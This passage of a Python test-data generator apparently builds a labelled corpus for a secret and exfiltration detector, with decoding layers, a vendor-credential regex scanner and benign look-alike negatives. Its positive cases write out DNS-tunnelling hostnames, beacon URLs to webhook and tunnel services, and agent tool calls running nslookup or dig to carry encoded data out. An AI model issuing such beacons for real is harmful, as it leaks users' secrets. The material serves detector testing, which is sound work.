def p_dns(i):
    enc = ['hex', 'b32', 'b64u'][i % 3]
    while True:
        data = exfil_data()[:60]
        if enc == 'hex':
            pl = data.hex()
        elif enc == 'b32':
            pl = base64.b32encode(data).decode().rstrip('=').lower()
        else:
            pl = b64ue(data)
        size = ch([16, 24, 30, 32, 40, 50, 63])
        labels = [pl[j:j + size] for j in range(0, len(pl), size)]
        if all(re.fullmatch(r'[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?', l) for l in labels) and len(pl) >= 24:
            break
    pre = ch([[], [str(ri(0, 9))], [rs(LOW + DIG, 4)], ['x' + str(ri(1, 9))]])
    hostn = '.'.join(pre + labels + [rs(LOW + DIG, ch([6, 8])), ch(EXFIL_DOMAINS)])
    if len(hostn) > 253:
        hostn = '.'.join(labels + [ch(EXFIL_DOMAINS)])
    k = i % 5
    if k in (0, 1, 2):
        c = {'where': 'hostname', 'text': hostn}
    elif k == 3:
        c = {'where': 'url', 'text': 'http://%s/%s' % (hostn, ch(['', 'a.gif', 'x'])), 'layers': []}
    else:
        cmd = ch(['nslookup %s', 'dig +short %s', 'host %s', 'ping -c1 %s'])
        d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'bash', 'arguments': {'command': cmd % hostn}}}
        c = outer('application/json', json.dumps(d), [], 30)
    c['layers'] = c.get('layers', []) + ['nodots']
    c['check'] = 'dns-' + enc
    return c, pl


def p_entropy(i):
    k = i % 7
    enc = ch(['b64u', 'b64u', 'b62', 'hex', 'b32'])
    data = gz(('%s=%s\n' % (ch(GEN_KEY_NAMES), opaque_token())) * 2) if R.random() < 0.3 else rbytes(ri(30, 90))
    if enc == 'b64u':
        pl = b64ue(data)
    elif enc == 'hex':
        pl = data.hex()
    elif enc == 'b32':
        pl = base64.b32encode(data).decode().rstrip('=').lower()
    else:
        pl = rs(ALNUM, ri(40, 120))
    h = ch(EXFIL_DOMAINS[5:] + ['%s.%s' % (ch(['collect', 'px', 't', 'ingest']), ch(['pages.dev', 'workers.dev', 'ngrok-free.app', 'trycloudflare.com']))])
    if k == 0:
        return {'where': 'url', 'text': 'https://%s/%s/%s' % (h, ch(['c', 'collect', 'i', 'api/v1/beacon', 'u']), pl), 'layers': []}, pl
    if k == 1:
        return {'where': 'url', 'text': 'https://%s/pixel.gif?d=%s&t=%d' % (h, pl, ri(1700000000, 1730000000)), 'layers': []}, pl
    if k == 2:
        return {'where': 'url', 'text': 'https://webhook.site/%s?data=%s' % (uuid4(), pl), 'layers': []}, pl
    if k == 3:
        lab = rs(LOW + DIG, ri(40, 60))
        return {'where': 'hostname', 'text': '%s.%s' % (lab, ch(EXFIL_DOMAINS)), 'layers': []}, lab
    if k == 4:
        std = b64e(data)
        return {'where': 'url', 'text': 'https://%s/log?q=%s' % (h, quote(std, safe='')), 'layers': ['pct']}, std
    if k == 5:
        lab = rs(LOW + DIG, ri(32, 56))
        return {'where': 'url', 'text': 'https://%s.%s/%s' % (lab, ch(EXFIL_DOMAINS), ch(['', 'favicon.ico'])), 'layers': []}, lab
    return {'where': 'url', 'text': 'https://%s/%s?v=1' % (h, '/'.join([ch(WORDS), pl])), 'layers': []}, pl


def p_hex(i):
    b = rbytes(ch([16, 20, 24, 32, 32, 48, 64]))
    hx = b.hex()
    style = ['colon', 'dash', 'space', 'c0x', 'bslx', 'comma', 'COLON'][i % 7]
    if style == 'colon':
        f = ':'.join(hx[j:j + 2] for j in range(0, len(hx), 2))
    elif style == 'COLON':
        f = ':'.join(hx[j:j + 2] for j in range(0, len(hx), 2)).upper()
    elif style == 'dash':
        f = '-'.join(hx[j:j + 2] for j in range(0, len(hx), 2))
    elif style == 'space':
        f = ' '.join(hx[j:j + 2] for j in range(0, len(hx), 2))
    elif style == 'c0x':
        f = ', '.join('0x' + hx[j:j + 2] for j in range(0, len(hx), 2))
    elif style == 'bslx':
        f = ''.join('\\x' + hx[j:j + 2] for j in range(0, len(hx), 2))
    else:
        f = ','.join(hx[j:j + 2] for j in range(0, len(hx), 2))
    k = i % 5
    if style == 'c0x':
        t = '/* generated by keytool - do not commit */\nstatic const uint8_t k_master_key[%d] = { %s };\n' % (len(b), f)
        fn, ct = 'keys.h', 'text/x-c'
    elif style == 'bslx':
        t = 'HMAC_SIGNING_KEY = b"%s"\n' % f
        fn, ct = 'secrets_local.py', 'text/x-python'
    elif k == 0 and style in ('colon', 'dash', 'COLON'):
        return {'where': 'url', 'text': 'https://%s/v1/%s?k=%s' % (ch(EXFIL_DOMAINS[5:]), ch(['ingest', 'sync']), f), 'layers': ['dehex']}, hx
    elif k == 1:
        t = '%s INFO  kms: unwrapped data key for tenant %d: %s\n' % (iso_ts(), ri(1, 999), f)
        fn, ct = 'kms.log', 'text/plain'
    elif k == 2:
        t = json.dumps({'device': ch(WORDS), 'encryption_key': f, 'algo': 'AES-256-GCM'})
        fn, ct = 'device.json', 'application/json'
    else:
        t = 'session master secret = %s\n' % f
        fn, ct = 'tls-debug.txt', 'text/plain'
    ct2, text, l2 = carrier(fn, ct, t)
    c = outer(ct2, text, l2, 14)
    c['layers'] = c['layers'] + ['dehex']
    return c, hx


SPECIAL = [  # cls, count, fn, check
    ('aws-secret-access-key', 10, p_aws_secret, None), ('datadog-api-key', 10, p_datadog, None),
    ('unprefixed-vendor-key', 12, p_unprefixed, None), ('twilio-auth-token', 4, p_twilio, None),
    ('jwt', 10, p_jwt, None), ('bearer-token', 11, p_bearer, None), ('http-basic-auth', 10, p_basic, None),
    ('database-url-with-password', 10, p_dburl, None), ('url-userinfo-password', 10, p_userinfo, None),
    ('generic-api-key', 12, p_generic_key, None), ('generic-password', 12, p_password, None),
    ('credit-card-number', 12, p_card, 'luhn'), ('iban', 10, p_iban, 'iban'), ('bitcoin-address', 12, p_btc, 'btc'),
    ('ethereum-address', 10, p_eth, 'eth'), ('dns-exfiltration', 16, p_dns, None),
    ('high-entropy-exfiltration', 15, p_entropy, None), ('delimited-hex-secret', 12, p_hex, None),
]


# ----------------------------------------------------------------- decoding layers (shared by generator and checker)
TOK_RE = re.compile(r'[A-Za-z0-9+/_-]{16,}={0,2}')
HEXTOK_RE = re.compile(r'[0-9a-fA-F]{16,}')
DEHEX_RE = re.compile(r'(?:(?:0x|\\x)?[0-9A-Fa-f]{2}(?:[\s,:\-]|\\(?!x))*){8,}')
PAIR_RE = re.compile(r'(?:0x|\\x)?([0-9A-Fa-f]{2})')


def b64tok_decode(tok):
    t = tok.rstrip('=')
    if '-' in t or '_' in t:
        t = t.replace('-', '+').replace('_', '/')
    t += '=' * (-len(t) % 4)
    try:
        return base64.b64decode(t, validate=True)
    except Exception:
        return None


def apply_layer(text, layer):
    if layer == 'pct':
        return unquote(text)
    if layer == 'form':
        return unquote_plus(text)
    if layer == 'html':
        return html.unescape(text)
    if layer == 'json':
        return re.sub(r'\\u([0-9a-fA-F]{4})', lambda m: chr(int(m.group(1), 16)), text)
    if layer == 'qp':
        return quopri.decodestring(text.encode('utf-8')).decode('utf-8', 'replace')
    if layer == 'nosep':
        return re.sub(r'(?<=[0-9A-Za-z])[ -](?=[0-9A-Za-z])', '', text)
    if layer == 'nodots':
        return text.replace('.', '')
    if layer in ('b64tok', 'gunztok'):
        out = [text]
        for m in TOK_RE.finditer(text):
            b = b64tok_decode(m.group(0))
            if b is None:
                continue
            if layer == 'gunztok':
                try:
                    b = gzip.decompress(b) if b[:2] == b'\x1f\x8b' else zlib.decompress(b)
                except Exception:
                    continue
            out.append(b.decode('utf-8', 'replace'))
        return '\n'.join(out)
    if layer == 'hextok':
        out = [text]
        for m in HEXTOK_RE.finditer(text):
            h = m.group(0)
            if len(h) % 2 == 0:
                out.append(bytes.fromhex(h).decode('utf-8', 'replace'))
        return '\n'.join(out)
    if layer == 'dehex':
        return '\n'.join([text] + [''.join(PAIR_RE.findall(m.group(0))).lower() for m in DEHEX_RE.finditer(text)])
    raise ValueError(layer)


def raw_text(c):
    """Body bytes -> text (base64 and Content-Encoding undone)."""
    if 'text' in c:
        return c['text']
    b = c['bytes']
    if c.get('ce') == 'gzip':
        b = gzip.decompress(b)
    elif c.get('ce') == 'deflate':
        b = zlib.decompress(b)
    return b.decode('utf-8', 'replace')


def recover(c):
    t = raw_text(c)
    for l in c.get('layers', []):
        t = apply_layer(t, l)
    return t


def views(c):
    t = raw_text(c)
    vs = [t]
    for l in ('pct', 'form', 'html', 'json', 'qp', 'b64tok', 'gunztok', 'hextok'):
        vs.append(apply_layer(t, l))
    vs.append(apply_layer(unquote(unquote(t)), 'b64tok'))
    return vs


# ----------------------------------------------------------------- negative scanner
VENDOR_RES = [re.compile(p) for p in [
    r'(?<![A-Za-z0-9])gh[pousr]_[A-Za-z0-9]{30,}', r'github_pat_[A-Za-z0-9_]{40,}', r'glpat-[A-Za-z0-9_-]{20}', r'glrt-[A-Za-z0-9_-]{20}',
    r'xox[abposer]-[A-Za-z0-9-]{10,}', r'hooks\.slack\.com/services/T[A-Z0-9]+/B[A-Z0-9]+/[A-Za-z0-9]{20,}',
    r'discord(?:app)?\.com/api/webhooks/\d+/[A-Za-z0-9_-]{30,}', r'\d{8,10}:AA[A-Za-z0-9_-]{30,}',
    r'(?<![A-Za-z0-9])[sr]k_(?:live|test)_[A-Za-z0-9]{16,}', r'whsec_[A-Za-z0-9]{24,}',
    r'(?<![A-Za-z0-9-])sk-(?:proj-|ant-|svcacct-)?[A-Za-z0-9_-]{20,}', r'T3BlbkFJ', r'(?:AKIA|ASIA|AIDA|AROA)[A-Z0-9]{16}',
    r'AIza[A-Za-z0-9_-]{30,}', r'GOCSPX-[A-Za-z0-9_-]{20,}', r'ya29\.[A-Za-z0-9_-]{20,}', r'1//0[A-Za-z0-9_-]{20,}',
    r'AccountKey=[A-Za-z0-9+/]{40,}', r'[?&]sig=[A-Za-z0-9%+/]{20,}', r'[A-Za-z0-9_~.-]{3}8Q~[A-Za-z0-9_~.-]{30,}',
    r'npm_[A-Za-z0-9]{30,}', r'pypi-AgE[A-Za-z0-9_-]{20,}', r'rubygems_[a-f0-9]{40,}', r'dckr_pat_[A-Za-z0-9_-]{20,}',
    r'NRAK-[A-Z0-9]{20,}', r'sntry[us]_[A-Za-z0-9_=-]{30,}', r'glsa_[A-Za-z0-9]{20,}', r'SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}',
    r'key-[a-f0-9]{32}', r'[a-f0-9]{32}-us\d{1,2}', r'xkeysib-[a-f0-9]{40,}', r'pscale_(?:pw|tkn)_[A-Za-z0-9_.-]{20,}',
    r'sbp_[a-f0-9]{30,}', r'hv[sb]\.[A-Za-z0-9_-]{20,}', r'dp\.(?:st|pt|ct|sa)\.[A-Za-z0-9_.-]{20,}', r'ops_eyJ[A-Za-z0-9_-]{20,}',
    r'hf_[A-Za-z]{30,}', r'r8_[A-Za-z0-9]{30,}', r'gsk_[A-Za-z0-9]{40,}', r'shp(?:at|ss|ca|pa)_[a-fA-F0-9]{32}',
    r'dop_v1_[a-f0-9]{40,}', r'lin_api_[A-Za-z0-9]{30,}', r'(?:ntn_|secret_)[A-Za-z0-9]{40,}', r'sk\.eyJ[A-Za-z0-9_-]{10,}',
    r'(?<![A-Za-z0-9+/])EAAA[A-Za-z0-9_-]{50,}', r'sq0csp-[A-Za-z0-9_-]{30,}', r'dapi[a-f0-9]{32}', r'pul-[a-f0-9]{40}', r'\.atlasv1\.[A-Za-z0-9]{40,}',
    r'PMAK-[a-f0-9]{20,}-[a-f0-9]{20,}', r'ATBB[A-Za-z0-9]{28,}', r'ATATT3[A-Za-z0-9_=-]{40,}', r'AC[a-f0-9]{32}',
    r'eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}', r'SSWS\s+[A-Za-z0-9_-]{20,}', r'(?i)BEGIN [A-Z ]*PRIVATE KEY',
    r'Bearer\s+[A-Za-z0-9._~+/-]{20,}', r'(?:DD|dd)-(?:API|APPLICATION|api|application)-(?:KEY|key)\W+[a-f0-9]{32}',
]]
SECRET_FIELD_RE = re.compile(
    r'(?i)([A-Za-z0-9_.\-]*(?:password|passwd|pwd|pass|secret|token|api[_-]?key|apikey|access[_-]?key|private[_-]?key|credential|credentials|auth|sig|signature))'
    r'["\']?\s*[:=]\s*["\']?([^\s"\'&,;<>()\[\]{}]{16,})')
FIELD_SKIP = ('page', 'cursor', 'csrf', 'xsrf', 'continuation', 'sync', 'challenge', 'public', 'publishable', 'hash', 'digest',
              'checksum', 'type', 'expires', 'ttl', 'length', 'policy', 'count', 'url', 'file', 'path', 'name', 'endpoint', 'uri',
              'method', 'header', 'state', 'bypass', 'compass', 'passport', 'passenger', 'passage', 'rotation')
PLACEHOLDER_CHARS = set('${}<>*\u2022\u2026%')
UINFO_RE = re.compile(r'[A-Za-z][A-Za-z0-9+.-]*://([^\s:/@"\']+):([^\s@/"\']+)@')
BASIC_RE = re.compile(r'Basic\s+([A-Za-z0-9+/]{8,}={0,2})')
CARD_RUN_RE = re.compile(r'(?<![0-9])[0-9]{13,19}(?![0-9])')
CARD_GRP_RE = re.compile(r'(?<![0-9])[0-9]{4}([ -])[0-9]{4,6}\1[0-9]{4,5}(?:\1[0-9]{1,7})?(?![0-9])')
IBAN_RE = re.compile(r'(?<![A-Z0-9])[A-Z]{2}[0-9]{2}(?: ?[A-Z0-9]){11,30}(?![A-Z0-9])')
B58_RE = re.compile(r'(?<![A-Za-z0-9])[13][1-9A-HJ-NP-Za-km-z]{24,34}(?![A-Za-z0-9])')
BECH_RE = re.compile(r'(?i)(?<![A-Za-z0-9])(?:bc|tb)1[02-9ac-hj-np-z]{8,87}(?![A-Za-z0-9])')
ETH_RE = re.compile(r'0x[0-9a-fA-F]{40}(?![0-9a-fA-F])')


def high_entropy_run(s, minlen=20, thr=3.3):
    for run in re.split(r'[^A-Za-z0-9]+', s):
        if len(run) >= minlen and entropy(run) >= thr and re.search(r'[0-9]', run) and re.search(r'[A-Za-z]', run):
            return run
    return None


def scan_text(t):
    flags = []
    for rx in VENDOR_RES:
        m = rx.search(t)
        if m:
            flags.append('vendor:' + m.group(0)[:24])
    for m in CARD_RUN_RE.finditer(t):
        if luhn_ok(m.group(0)):
            flags.append('luhn:' + m.group(0))
    for m in CARD_GRP_RE.finditer(t):
        d = re.sub(r'[ -]', '', m.group(0))
        if 13 <= len(d) <= 19 and luhn_ok(d):
            flags.append('luhn-grp:' + m.group(0))
    for m in IBAN_RE.finditer(t):
        s = m.group(0).replace(' ', '')
        for L in {IBAN_LEN.get(s[:2], 0)}:
            if L and len(s) >= L and iban_ok(s[:L]):
                flags.append('iban:' + s)
    for m in B58_RE.finditer(t):
        if b58check_ok(m.group(0)):
            flags.append('b58:' + m.group(0))
    for m in BECH_RE.finditer(t):
        if segwit_ok(m.group(0)):
            flags.append('bech:' + m.group(0))
    for m in ETH_RE.finditer(t):
        flags.append('eth:' + m.group(0))
    for m in BASIC_RE.finditer(t):
        b = b64tok_decode(m.group(1))
        if b:
            s = b.decode('utf-8', 'replace')
            if re.fullmatch(r'[\x21-\x7e]+:[\x21-\x7e]+', s):
                flags.append('basic:' + s)
    for m in UINFO_RE.finditer(t):
        pw = m.group(2)
        if not (set(pw) & PLACEHOLDER_CHARS):
            flags.append('userinfo:' + pw)
    for m in SECRET_FIELD_RE.finditer(t):
        name, val = m.group(1).lower(), m.group(2)
        if any(s in name for s in FIELD_SKIP) or set(val) & PLACEHOLDER_CHARS:
            continue
        if (re.search(r'[0-9]', val) and re.search(r'[A-Za-z]', val) and entropy(val) >= 3.3) or (len(val) >= 24 and entropy(val) >= 4.0):
            flags.append('field:%s=%s' % (name, val[:20]))
    if ARMOUR in t:
        flags.append('armour')
    return flags


def scan_case(c):
    flags = []
    for v in views(c):
        flags += scan_text(v)
    t = raw_text(c)
    hosts = []
    if c['where'] == 'hostname':
        hosts.append(t)
    elif c['where'] == 'url':
        hosts.append(urlsplit(t).hostname or '')
        sp = urlsplit(t)
        parts = sp.path.split('/') + [kv.split('=', 1)[-1] for kv in sp.query.split('&') if not kv.startswith(('code_challenge=', 'client_id='))]
        for p in parts:
            p = unquote(p)
            if len(p) >= 30 and entropy(p) >= 4.0 and high_entropy_run(p, 30, 4.0):
                flags.append('url-random:' + p[:20])
    for h in hosts:
        for lab in h.split('.'):
            r = high_entropy_run(lab, 20, 3.3)
            if r:
                flags.append('host-label:' + r)
            if re.fullmatch(r'[0-9a-f]{24,}', lab):
                flags.append('host-hex:' + lab)
    return sorted(set(flags))


# ----------------------------------------------------------------- negatives
def nurl(u):
    return {'where': 'url', 'text': u}


def nhdr(n, v):
    return {'where': 'header', 'text': '%s: %s' % (n, v)}


def nhost(h):
    return {'where': 'hostname', 'text': h}


def njson(d, ctype='application/json'):
    return {'where': 'body', 'content_type': ctype, 'text': json.dumps(d)}


def nbody(n, v, enc=False):
    fname, ctype, snip, _ = ch([f for f in SNIPPETS if f is not S_k8s])(n, v)
    ct2, text, _ = carrier(fname, ctype, snip)
    c = outer(ct2, text, [], 10 if enc else 10 ** 6)
    c.pop('layers', None)
    return c


def sha40():
    return rs(HEXC, 40)


def n_uuid():
    k = ri(0, 3)
    if k == 0:
        return nurl('https://%s/v1/%s/%s%s' % (host(), ch(['orders', 'users', 'projects', 'invoices']), uuid4(), ch(['', '?include=items', '?expand=customer'])))
    if k == 1:
        return njson({'order_id': uuid4(), 'customer_id': uuid4(), 'status': ch(['paid', 'pending', 'shipped']), 'items': ri(1, 9)})
    if k == 2:
        return nhdr(ch(['X-Request-ID', 'X-Correlation-ID', 'Idempotency-Key']), uuid4())
    return nbody(ch(['TENANT_ID', 'WORKSPACE_ID', 'PROJECT_ID']), uuid4())


def n_gitsha():
    s = sha40()
    k = ri(0, 4)
    if k == 0:
        return nurl('https://github.com/%s/%s/commit/%s' % (org(), repo(), s))
    if k == 1:
        return nurl('https://api.github.com/repos/%s/%s/commits/%s/status' % (org(), repo(), s))
    if k == 2:
        return njson({'state': ch(['success', 'pending']), 'sha': s, 'context': 'ci/build', 'target_url': 'https://ci.%s.com/builds/%d' % (ch(ORGS), ri(100, 9999))})
    if k == 3:
        t = 'commit %s\nAuthor: %s <%s>\nDate:   Mon Apr 1 10:%02d:00 2024 +0200\n\n    %s: fix %s handling\n' % (s, ch(PEOPLE).title(), email(), ri(0, 59), ch(['fix', 'feat', 'chore']), ch(WORDS))
        d = {'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': 'Write release notes for:\n' + t}]}
        return njson(d)
    return nbody(ch(['GIT_COMMIT', 'BUILD_SHA', 'SOURCE_VERSION']), s)


def n_digest():
    h = rs(HEXC, 64)
    k = ri(0, 5)
    if k == 0:
        return nbody('IMAGE', 'ghcr.io/%s/%s@sha256:%s' % (org(), repo(), h))
    if k == 1:
        t = '%s==%d.%d.%d \\\n    --hash=sha256:%s\n' % (ch(['requests', 'urllib3', 'idna', 'certifi']), ri(1, 3), ri(0, 30), ri(0, 9), h)
        return {'where': 'body', 'content_type': 'text/plain', 'text': t}
    if k == 2:
        t = '[[package]]\nname = "%s"\nversion = "0.%d.%d"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "%s"\n' % (ch(['serde', 'tokio', 'anyhow']), ri(1, 9), ri(0, 30), h)
        return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'write_file', 'arguments': {'path': 'Cargo.lock', 'content': t}}})
    if k == 3:
        return nurl('https://registry-1.docker.io/v2/library/%s/manifests/sha256:%s' % (ch(['nginx', 'redis', 'alpine']), h))
    if k == 4:
        return nhdr(ch(['Digest', 'Repr-Digest']), 'sha-256=:%s:' % b64e(rbytes(32)))
    return {'where': 'body', 'content_type': 'text/plain', 'text': 'golang.org/x/%s v0.%d.0 h1:%s\n' % (ch(['net', 'sys', 'text']), ri(1, 30), b64e(rbytes(32)))}


def n_asset():
    site = ch(['www.%s.com' % ch(ORGS), 'cdn.%s.net' % ch(ORGS), 'static.%s.io' % ch(ORGS)])
    k = ri(0, 3)
    if k == 0:
        return nurl('https://%s/static/js/main.%s.js' % (site, rs(HEXC, 8)))
    if k == 1:
        return nurl('https://%s/_next/static/chunks/pages/%s-%s.js' % (site, ch(WORDS), rs(HEXC, 16)))
    if k == 2:
        return nurl('https://%s/assets/index-%s.%s' % (site, rs(ALNUM, 8), ch(['js', 'css'])))
    t = '<!doctype html><html><head><link rel="stylesheet" href="/assets/app.%s.css"><script defer src="/static/js/%s.%s.chunk.js"></script></head><body><div id="root"></div></body></html>' % (
        rs(HEXC, 20), ri(100, 999), rs(HEXC, 8))
    return {'where': 'body', 'content_type': 'text/html', 'text': t}


def n_docid():
    k = ri(0, 5)
    title = '-'.join(ch(['Roadmap', 'Q3', 'Planning', 'Incident', 'Review', 'Onboarding', 'Notes']) for _ in range(ri(1, 3)))
    if k == 0:
        return nurl('https://www.figma.com/design/%s/%s?node-id=%d-%d' % (rs(ALNUM, 22), title, ri(1, 99), ri(1, 999)))
    if k == 1:
        return nurl('https://api.airtable.com/v0/app%s/tbl%s?maxRecords=%d&view=Grid%%20view' % (rs(ALNUM, 14), rs(ALNUM, 14), ri(10, 100)))
    if k == 2:
        return nurl('https://www.notion.so/%s/%s-%s' % (ch(ORGS), title, rs(HEXC, 32)))
    if k == 3:
        return nurl('https://%s.atlassian.net/wiki/spaces/%s/pages/%d/%s' % (ch(ORGS), ch(['ENG', 'OPS', 'SEC']), ri(10 ** 8, 10 ** 9), title))
    if k == 4:
        return njson({'parent': {'page_id': uuid4()}, 'properties': {'title': [{'text': {'content': title.replace('-', ' ')}}]}})
    return nurl('https://trello.com/c/%s/%d-%s' % (rs(ALNUM, 8), ri(1, 400), title.lower()))


def n_image():
    img = png_bytes(ri(6, 16), ri(6, 16))
    k = ri(0, 3)
    if k == 0:
        return njson({'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': [{'type': 'text', 'text': 'What is in this image?'},
                     {'type': 'image_url', 'image_url': {'url': 'data:image/png;base64,' + b64e(img)}}]}]})
    if k == 1:
        return njson({'model': ch(ANT_MODELS), 'max_tokens': 512, 'messages': [{'role': 'user', 'content': [
            {'type': 'image', 'source': {'type': 'base64', 'media_type': 'image/png', 'data': b64e(img)}}, {'type': 'text', 'text': 'Describe the chart.'}]}]})
    if k == 2:
        return {'where': 'body', 'content_type': 'text/html', 'text': '<p>Logo:</p><img alt="logo" width="16" src="data:image/png;base64,%s">' % b64e(img)}
    return {'where': 'body', 'content_type': 'image/png', 'bytes': img}


def n_cursor():
    k = ri(0, 4)
    if k == 0:
        cur = b64ue(json.dumps({'id': ri(1000, 999999), 'dir': 'next'}, separators=(',', ':')))
        return nurl('https://%s/v1/%s?cursor=%s&limit=%d' % (host(), ch(WORDS), cur, ch([25, 50, 100])))
    if k == 1:
        return nurl('https://api.stripe.com/v1/customers?limit=%d&starting_after=cus_%s' % (ch([10, 100]), rs(ALNUM, 14)))
    if k == 2:
        return nurl('https://slack.com/api/conversations.list?limit=200&cursor=%s' % quote(b64e('team:C0' + rs(UPC + DIG, 8)), safe=''))
    if k == 3:
        return njson({'data': [{'id': ri(1, 9999)}], 'has_more': True, 'next_cursor': b64e(json.dumps({'offset': ri(20, 900)}))})
    return njson({'query': 'query($after: String) { repository(owner: "%s", name: "%s") { issues(first: 50, after: $after) { nodes { title } } } }' % (org(), repo()),
                  'variables': {'after': 'Y3Vyc29yOnYyOpHO' + rs(ALNUM, 6)}})


def n_sri():
    k = ri(0, 2)
    if k == 0:
        t = '<script src="https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/%s.min.js" integrity="sha384-%s" crossorigin="anonymous"></script>' % (
            ch(['bootstrap', 'alpinejs', 'htmx.org']), ri(1, 5), ri(0, 9), ri(0, 9), ch(['bundle', 'index']), b64e(rbytes(48)))
        return {'where': 'body', 'content_type': 'text/html', 'text': t}
    if k == 1:
        d = {'name': repo(), 'lockfileVersion': 3, 'packages': {'node_modules/%s' % ch(['lodash', 'react', 'chalk']): {
            'version': '%d.%d.%d' % (ri(1, 18), ri(0, 9), ri(0, 9)), 'resolved': 'https://registry.npmjs.org/x/-/x-1.0.0.tgz', 'integrity': 'sha512-' + b64e(rbytes(64))}}}
        return njson(d)
    return {'where': 'body', 'content_type': 'text/html', 'text': '<link rel="stylesheet" href="/css/site.css" integrity="sha256-%s">' % b64e(rbytes(32))}


def ssh_pub():
    k = ri(0, 1)
    if k == 0:
        blob = struct.pack('>I', 11) + b'ssh-ed25519' + struct.pack('>I', 32) + rbytes(32)
        return 'ssh-ed25519 ' + b64e(blob)
    mod = b'\x00' + bytes([ri(128, 255)]) + rbytes(255)
    blob = struct.pack('>I', 7) + b'ssh-rsa' + struct.pack('>I', 3) + b'\x01\x00\x01' + struct.pack('>I', len(mod)) + mod
    return 'ssh-rsa ' + b64e(blob)


def n_sshpub():
    key = ssh_pub() + ' %s@%s' % (ch(PEOPLE), ch(['laptop', 'workstation', 'ci']))
    k = ri(0, 3)
    if k == 0:
        return njson({'title': '%s laptop' % ch(PEOPLE), 'key': key})
    if k == 1:
        return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'append_file', 'arguments': {'path': '~/.ssh/authorized_keys', 'content': key + '\n'}}})
    if k == 2:
        return {'where': 'body', 'content_type': 'application/yaml', 'text': '#cloud-config\nusers:\n  - name: %s\n    ssh_authorized_keys:\n      - %s\n' % (ch(PEOPLE), key)}
    return {'where': 'body', 'content_type': 'text/plain', 'text': 'resource "aws_key_pair" "deployer" {\n  key_name   = "deployer"\n  public_key = "%s"\n}\n' % key}


def n_masked():
    k = ri(0, 6)
    if k == 0:
        return nbody('STRIPE_SECRET_KEY', 'sk_live_' + '*' * ri(16, 24) + rs(ALNUM, 4))
    if k == 1:
        return njson({'id': 'key_%d' % ri(100, 999), 'name': 'CI token', 'token': 'ghp_' + '\u2022' * 12 + rs(ALNUM, 4), 'last_used': iso_ts()})
    if k == 2:
        return nhdr('Authorization', 'Bearer ' + '*' * ri(8, 30))
    if k == 3:
        return {'where': 'body', 'content_type': 'text/plain', 'text': '%s INFO auth: using api_key=%s\u2026%s (redacted) for %s\n' % (iso_ts(), rs(ALNUM, 3), rs(ALNUM, 3), host())}
    if k == 4:
        return nbody(ch(['DB_PASSWORD', 'SMTP_PASSWORD']), '\u2022' * ri(8, 14))
    if k == 5:
        return nurl('https://%s/v1/keys?api_key=%s' % (host(), quote('*' * 20, safe='')))
    return njson({'aws_access_key_id': 'AKIA' + '*' * 12 + rs(UPC + DIG, 4), 'aws_secret_access_key': '*' * 40, 'region': 'us-east-1'})


def n_placeholder():
    k = ri(0, 6)
    if k == 0:
        return nbody('OPENAI_API_KEY', '${OPENAI_API_KEY}')
    if k == 1:
        return {'where': 'body', 'content_type': 'application/yaml', 'text': 'env:\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n  GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n'}
    if k == 2:
        return nbody('API_KEY', '<YOUR_API_KEY>')
    if k == 3:
        return nbody('DATABASE_URL', 'postgres://%s:${DB_PASSWORD}@db.internal:5432/%s' % (ch(['app', 'svc']), ch(WORDS)))
    if k == 4:
        return {'where': 'body', 'content_type': 'application/yaml', 'text': 'password: "{{ .Values.postgresql.auth.password }}"\nusername: {{ .Values.postgresql.auth.username }}\n'}
    if k == 5:
        return nhdr('Authorization', 'Bearer ${%s}' % ch(['TOKEN', 'ACCESS_TOKEN', 'API_TOKEN']))
    return njson({'jsonrpc': '2.0', 'id': 3, 'method': 'tools/call', 'params': {'name': 'http_request', 'arguments': {'url': 'https://%s/v1/items' % host(), 'headers': {'X-API-Key': '<api-key>'}}}})


PROSE = [
    'Never commit API keys to the repository; store them in the secrets manager and rotate them every 90 days.',
    'If a token leaks, revoke it immediately and audit the access logs for the affected period.',
    'Bitte speichern Sie Passwoerter niemals im Klartext und aktivieren Sie die Zwei-Faktor-Authentifizierung.',
    'Ne partagez jamais votre mot de passe ni vos cles API par e-mail ou par chat.',
    'Nunca compartas tu contrasena ni tus claves de API; usa un gestor de secretos.',
    'APIキーやパスワードはソースコードに書かず、環境変数やシークレットマネージャーで管理してください。',
    '请不要把密码或访问令牌提交到代码仓库，应使用密钥管理服务并定期轮换。',
    'Nao compartilhe tokens de acesso; use variaveis de ambiente e gire as chaves regularmente.',
    'How do I rotate the database password without downtime when the app reads it at startup?',
    'Our policy: service account keys expire after 30 days and must be stored in Vault.',
]


def n_prose():
    t = ch(PROSE) + ' ' + ch(PROSE)
    k = ri(0, 3)
    if k == 0:
        return njson({'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': t}]})
    if k == 1:
        return njson({'channel': 'C0' + rs(UPC + DIG, 9), 'text': t})
    if k == 2:
        return njson({'body': t}, 'application/json')
    return {'where': 'body', 'content_type': 'text/markdown; charset=utf-8', 'text': '# Security notes\n\n- %s\n- %s\n' % (ch(PROSE), ch(PROSE))}


def n_coderef():
    snips = ['import os\nimport openai\n\nclient = openai.OpenAI(api_key=os.environ["OPENAI_API_KEY"])\n',
             "const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);\n",
             'token := os.Getenv("GITHUB_TOKEN")\nif token == "" {\n\tlog.Fatal("GITHUB_TOKEN not set")\n}\n',
             'resource "aws_db_instance" "main" {\n  username = var.db_user\n  password = var.db_password\n}\n',
             'password = config.get("database", "password")\nconn = psycopg2.connect(host=host, password=password)\n',
             'headers = {"Authorization": f"Bearer {access_token}"}\nresp = httpx.get(url, headers=headers)\n',
             'let apiKey = ProcessInfo.processInfo.environment["MAPS_API_KEY"] ?? ""\n',
